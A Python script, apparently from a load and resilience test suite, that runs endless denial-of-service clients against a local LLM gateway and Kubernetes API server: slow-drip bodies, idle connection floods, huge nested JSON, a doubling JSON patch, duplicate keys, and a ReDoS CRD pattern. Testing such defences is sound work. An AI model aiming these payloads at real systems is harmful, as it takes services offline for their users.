"""Clients that want too much of `llmkube up`, each for ever, from an address of their own.

    python attacks.py NAME GATEWAY-PORT API-PORT KUBECONFIG     never ends

`held` and `idle` need no credentials; what goes to the API server has its token, as a careless user has.
"""

import json
import os
import selectors
import socket
import ssl
import sys
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any, Final

import yaml

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from http_load.loopback import whole
from http_load.sse import request

HELD, IDLE, DRIP_SECONDS, PAUSE_SECONDS = 30, 1_100, 5.0, 0.1
BODY_BYTES, API_BODY_BYTES = 60_000_000, 3_000_000  # more is refused by its length
DOUBLINGS, DUPLICATES = 27, 120_000
BIG_BYTES, BIG_CONNECTIONS, CHATS, STREAMS = 400_000, 8, 64, 200
NOISY: Final = "127.0.0.2"
CONFIG_MAPS: Final = "/api/v1/namespaces/default/configmaps"
CRDS: Final = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"


def dial(port: int) -> socket.socket:
    """Connect from an address that no other client has, where the system has one to give."""
    with suppress(OSError):
        return socket.create_connection(("127.0.0.1", port), source_address=(NOISY, 0))
    return socket.create_connection(("127.0.0.1", port))


def head(method: str, path: str, length: int, **headers: str) -> bytes:
    """Return a request's head."""
    lines = {"Host": "127.0.0.1", "Content-Type": "application/json", "Content-Length": str(length)} | headers
    listed = "".join(f"{name}: {text}\r\n" for name, text in lines.items())
    return f"{method} {path} HTTP/1.1\r\n{listed}\r\n".encode()


def nested(size: int) -> bytes:
    """Return a JSON array of so many bytes that is made of empty ones."""
    return b"[" + b"[]," * (size // 3 - 1) + b"[]]"


class Target:
    """Where requests go."""

    def __init__(self, gateway: int, api: int, kubeconfig: Path) -> None:
        self.gateway, self.api = gateway, api
        self._token = yaml.safe_load(kubeconfig.read_text("utf-8"))["users"][0]["user"]["token"]

    def ask_gateway(self, body: bytes) -> None:
        """Send one request, and wait for the answer's beginning."""
        with dial(self.gateway) as one, suppress(OSError):
            one.sendall(head("POST", "/v1/chat/completions", len(body)) + body)
            one.recv(65536)

    def ask_api(self, method: str, path: str, body: bytes, content_type: str = "application/json") -> None:
        """Send one request with the token, and wait for the answer's beginning."""
        context = ssl._create_unverified_context()  # noqa: S323, SLF001 (an attacker does not mind)
        credentials = {"Authorization": f"Bearer {self._token}", "Content-Type": content_type}
        with suppress(OSError), context.wrap_socket(dial(self.api)) as one:
            one.sendall(head(method, path, len(body), **credentials) + body)
            one.recv(65536)

    def create(self, path: str, body: Mapping[str, Any]) -> None:
        """Create an object."""
        self.ask_api("POST", path, json.dumps(body).encode())


def hold(target: Target) -> None:
    """Send large bodies up to their last byte but one thousand, then a byte now and then."""
    held = [dial(target.gateway) for _ in range(HELD)]
    body = nested(BODY_BYTES)
    for one in held:
        with suppress(OSError):
            one.sendall(head("POST", "/v1/chat/completions", len(body)) + body[:-1000])
    while True:
        time.sleep(DRIP_SECONDS)
        for one in held:
            with suppress(OSError):
                one.send(b" ")


def idle(target: Target) -> None:
    """Open connections to both servers and say nothing; open those again that were closed."""
    kept: list[tuple[int, socket.socket]] = []
    for port in (target.gateway, target.api):
        kept += [(port, dial(port)) for _ in range(IDLE)]
    while True:
        time.sleep(DRIP_SECONDS)
        for number, (port, one) in enumerate(kept):
            with suppress(BlockingIOError, OSError):
                if not one.recv(1, socket.MSG_DONTWAIT):
                    one.close()
                    kept[number] = (port, dial(port))


def repeat(ask: Callable[[], None]) -> None:
    """Ask again and again."""
    while True:
        ask()
        time.sleep(PAUSE_SECONDS)


def arrays(target: Target) -> None:
    """60 MB of empty arrays, to the gateway."""
    body = nested(BODY_BYTES)
    repeat(lambda: target.ask_gateway(body))


def api_arrays(target: Target) -> None:
    """The same to the API server, as much as it takes."""
    body = nested(API_BODY_BYTES)
    repeat(lambda: target.ask_api("POST", CONFIG_MAPS, body))


def patch(target: Target) -> None:
    """A JSON patch whose every step doubles what the one before has made."""
    target.create(CONFIG_MAPS, {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "doubled"}})
    steps = [{"op": "add", "path": "/x", "value": [0]}, *[{"op": "copy", "from": "/x", "path": "/x/-"}] * DOUBLINGS]
    body = json.dumps(steps).encode()
    repeat(lambda: target.ask_api("PATCH", f"{CONFIG_MAPS}/doubled", body, "application/json-patch+json"))


def duplicates(target: Target) -> None:
    """An object with many keys, each of which is duplicated."""
    keys = b",".join(b'"k%d":""' % (number // 2) for number in range(DUPLICATES))
    body = b'{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"many"},"data":{' + keys + b"}}"
    repeat(lambda: target.ask_api("POST", CONFIG_MAPS, body))


def pattern(target: Target) -> None:
    """A value that takes a backtracking engine 2^40 steps to refuse, by a pattern that RE2 reads once."""
    names = {"plural": "traps", "singular": "trap", "kind": "Trap", "listKind": "TrapList"}
    field = {"type": "object", "properties": {"spec": {"type": "string", "pattern": "^(a+)+$"}}}
    version = {"name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": field}}
    spec = {"group": "bench.example", "scope": "Namespaced", "names": names, "versions": [version]}
    made = {"apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition", "spec": spec}
    target.create(CRDS, made | {"metadata": {"name": "traps.bench.example"}})
    time.sleep(1)  # until it is served
    trap = {"apiVersion": "bench.example/v1", "kind": "Trap", "metadata": {"name": "t"}, "spec": "a" * 40 + "!"}
    repeat(lambda: target.create("/apis/bench.example/v1/namespaces/default/traps", trap))


def ask_at_once(target: Target, asked: bytes, connections: int) -> None:
    """Ask over so many connections, again on each once its answer is there, and on a new one where it was closed."""
    poll, received = selectors.DefaultSelector(), dict[socket.socket, bytes]()
    while True:
        for _ in range(connections - len(received)):
            one = dial(target.gateway)
            poll.register(one, selectors.EVENT_READ)
            received[one] = b""
            one.sendall(asked)
        for key, _ in poll.select():
            one = key.fileobj  # type: ignore[assignment]  # only sockets are registered
            data = b""
            with suppress(OSError):
                data = one.recv(65536)
                received[one] += data
                if data and whole(received[one]):
                    received[one] = b""
                    one.sendall(asked)
            if not data:
                poll.unregister(one)
                del received[one]
                one.close()


def big(target: Target) -> None:
    """Chats of 400 KB with many turns, one after the other on each connection."""
    turn = {"role": "user", "content": [{"type": "text", "text": 'a "word" on each\nline, ' * 16}]}
    turns = [turn] * (BIG_BYTES // len(json.dumps(turn)))
    body = json.dumps({"model": "plain", "messages": turns}).encode()
    ask_at_once(target, head("POST", "/v1/chat/completions", len(body)) + body, BIG_CONNECTIONS)


def chats(target: Target) -> None:
    """Small chats, each on a connection of its own."""
    asked = request("plain", "hello", stream=False)
    ask_at_once(target, asked.replace(b"\r\n", b"\r\nConnection: close\r\n", 1), CHATS)


def streams(target: Target) -> None:
    """Streams of 50 tokens per second that do not end."""
    poll, asked = selectors.DefaultSelector(), request("streams", "hello", stream=True)
    for _ in range(STREAMS):
        one = dial(target.gateway)
        one.sendall(asked)
        poll.register(one, selectors.EVENT_READ)
    while True:
        for key, _ in poll.select():
            key.fileobj.recv(65536)  # type: ignore[union-attr]  # only sockets are registered


ATTACKS: Final[Mapping[str, Callable[[Target], None]]] = {
    "held": hold,
    "idle": idle,
    "arrays": arrays,
    "api_arrays": api_arrays,
    "patch": patch,
    "duplicates": duplicates,
    "pattern": pattern,
}
BUSY: Final[Mapping[str, Callable[[Target], None]]] = {"big": big, "chats": chats, "streams": streams}
"""Clients that ask for nothing unusual, but for more than one core can do."""


if __name__ == "__main__":
    os.nice(5)  # clients elsewhere would take no processor time of this machine
    {**ATTACKS, **BUSY}[sys.argv[1]](Target(int(sys.argv[2]), int(sys.argv[3]), Path(sys.argv[4])))
